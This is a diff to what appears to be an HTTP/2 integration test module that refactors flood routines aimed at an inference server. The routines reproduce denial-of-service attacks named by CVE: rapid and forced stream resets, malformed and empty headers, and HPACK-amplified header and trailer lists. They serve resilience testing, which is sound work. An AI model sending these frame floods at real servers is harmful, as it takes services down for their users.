@@ -39,6 +39,8 @@ from tests.integration.http2 import (
 PRIORITY, CONTINUATION, UNKNOWN = 2, 9, 200
 HEADER_TABLE_SIZE = 1
 LITERAL = b"\0\x01x\x01y"
+# As long as the table holds, which then names it in a byte.
+LARGE_ENTRY = b"\x40\x01x" + b"\x7f\xa1\x1e" + b"y" * 4000
 INFER, STREAM = "ModelInfer", "ModelStreamInfer"
 LARGE = 30 << 20  # of a message, with room to the limit that the tests set
 CHUNK = 16384
@@ -67,6 +69,18 @@ def again(port: int, on: Callable[[], bool], once: Callable[[RawClient], None]) 
             with client:
                 client.socket.settimeout(5)
                 once(client)
+
+
+def streams(port: int, on: Callable[[], bool], of: Callable[[int], bytes], at_once: int = 1) -> None:
+    """On each new stream what `of` says, so many streams at a time."""
+
+    def once(client: RawClient) -> None:
+        stream = 1
+        while on():
+            client.socket.sendall(b"".join(map(of, range(stream, stream + 2 * at_once, 2))))
+            stream += 2 * at_once
+
+    again(port, on, once)
 
 
 def flood(port: int, on: Callable[[], bool], one: bytes) -> None:
@@ -155,34 +169,21 @@ def unknown_frames(port: int, on: Callable[[], bool]) -> None:
 def rapid_resets(port: int, on: Callable[[], bool]) -> None:
     """CVE-2023-44487."""
 
-    def once(client: RawClient) -> None:
-        stream = 1
-        while on():
-            burst = b"".join(
-                frame(HEADERS, END_HEADERS, s, header_block(INFER)) + frame(RST_STREAM, 0, s, b"\0\0\0\x08")
-                for s in range(stream, stream + 400, 2)
-            )
-            stream += 400
-            client.socket.sendall(burst)
+    def of(stream: int) -> bytes:
+        return frame(HEADERS, END_HEADERS, stream, header_block(INFER)) + frame(RST_STREAM, 0, stream, b"\0\0\0\x08")
 
-    again(port, on, once)
+    streams(port, on, of, 200)
 
 
 @attack
 def forced_resets(port: int, on: Callable[[], bool]) -> None:
     """CVE-2025-8671: windows that no stream can have, which the server has to reset."""
 
-    def once(client: RawClient) -> None:
-        stream = 1
-        while on():
-            burst = b"".join(
-                frame(HEADERS, END_HEADERS, s, header_block(INFER)) + frame(WINDOW_UPDATE, 0, s, b"\x7f\xff\xff\xff")
-                for s in range(stream, stream + 400, 2)
-            )
-            stream += 400
-            client.socket.sendall(burst)
+    def of(stream: int) -> bytes:
+        widened = frame(WINDOW_UPDATE, 0, stream, b"\x7f\xff\xff\xff")
+        return frame(HEADERS, END_HEADERS, stream, header_block(INFER)) + widened
 
-    again(port, on, once)
+    streams(port, on, of, 200)
 
 
 @attack
@@ -220,16 +221,11 @@ def made_you_reset(port: int, on: Callable[[], bool]) -> None:
 def malformed_requests(port: int, on: Callable[[], bool]) -> None:
     """CVE-2019-9514: headers that no request may have, so that each is answered with a reset."""
 
-    def once(client: RawClient) -> None:
-        stream = 1
-        while on():
-            block = header_block(INFER) + b"\0\x01X\x01y"  # an upper-case name
-            client.socket.sendall(
-                b"".join(frame(HEADERS, END_HEADERS | END_STREAM, s, block) for s in range(stream, stream + 400, 2))
-            )
-            stream += 400
+    def of(stream: int) -> bytes:
+        block = header_block(INFER) + b"\0\x01X\x01y"  # an upper-case name
+        return frame(HEADERS, END_HEADERS | END_STREAM, stream, block)
 
-    again(port, on, once)
+    streams(port, on, of, 200)
 
 
 @attack
@@ -304,46 +300,33 @@ def padded_numbers(port: int, on: Callable[[], bool]) -> None:
 def empty_headers(port: int, on: Callable[[], bool]) -> None:
     """CVE-2019-9516: headers with neither name nor value, in table after table."""
 
-    def once(client: RawClient) -> None:
-        stream = 1
-        while on():
-            block = header_block(INFER) + b"\0\0\0" * 4000
-            client.socket.sendall(frame(HEADERS, END_HEADERS | END_STREAM, stream, block))
-            stream += 2
+    def of(stream: int) -> bytes:
+        return frame(HEADERS, END_HEADERS | END_STREAM, stream, header_block(INFER) + b"\0\0\0" * 4000)
 
-    again(port, on, once)
+    streams(port, on, of)
 
 
 @attack
 def long_header_lists(port: int, on: Callable[[], bool]) -> None:
     """16 KB that unfold to megabytes: the table's largest entry, named again and again."""
 
-    def once(client: RawClient) -> None:
-        entry = b"\x40\x01x" + b"\x7f\xa1\x1e" + b"y" * 4000
-        stream = 1
-        while on():
-            block = header_block(INFER) + entry + b"\xbe" * 12000
-            client.socket.sendall(frame(HEADERS, END_HEADERS | END_STREAM, stream, block))
-            stream += 2
+    def of(stream: int) -> bytes:
+        block = header_block(INFER) + LARGE_ENTRY + b"\xbe" * 12000
+        return frame(HEADERS, END_HEADERS | END_STREAM, stream, block)
 
-    again(port, on, once)
+    streams(port, on, of)
 
 
 @attack
 def long_trailers(port: int, on: Callable[[], bool]) -> None:
     """16 KB that unfold to megabytes, behind a request instead of before it."""
 
-    def once(client: RawClient) -> None:
-        entry = b"\x40\x01x" + b"\x7f\xa1\x1e" + b"y" * 4000
-        stream = 1
-        while on():
-            client.socket.sendall(
-                frame(HEADERS, END_HEADERS, stream, header_block(INFER) + (entry if stream == 1 else b""))
-                + frame(HEADERS, END_HEADERS | END_STREAM, stream, b"\xbe" * 16_000)
-            )
-            stream += 2
+    def of(stream: int) -> bytes:
+        request = header_block(INFER) + (LARGE_ENTRY if stream == 1 else b"")
+        trailers = frame(HEADERS, END_HEADERS | END_STREAM, stream, b"\xbe" * 16_000)
+        return frame(HEADERS, END_HEADERS, stream, request) + trailers
 
-    again(port, on, once)
+    streams(port, on, of)
 
 
 def whole_message(port: int, on: Callable[[], bool], content: bytes, coded: bool = False) -> None:
